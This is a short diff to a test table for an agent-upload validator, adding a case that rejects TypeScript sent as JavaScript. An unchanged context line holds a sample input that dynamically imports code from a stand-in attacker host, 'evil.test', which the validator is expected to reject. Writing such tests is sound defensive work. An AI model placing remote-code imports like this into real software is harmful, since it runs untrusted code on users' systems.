@@ -67,6 +67,7 @@ describe('uploading an agent', () => {
     ['CommonJS', 'module.exports = () => 1', 'no default export'],
     ['an import', 'import fs from "node:fs"; export default () => fs', 'imports "node:fs"'],
     ['a dynamic import', 'export default () => import("https://evil.test/x.js")', 'imports "https://evil.test/x.js"'],
+    ['TypeScript sent as JavaScript', 'export default (n: number) => n', 'Send it with language "ts"'],
     ['nothing', '  \n', 'is empty'],
     ['bytecode', 'BC\x05\x02run', 'control characters'],
     ['half a surrogate pair', 'export default () => "\ud800"', 'broken Unicode'],
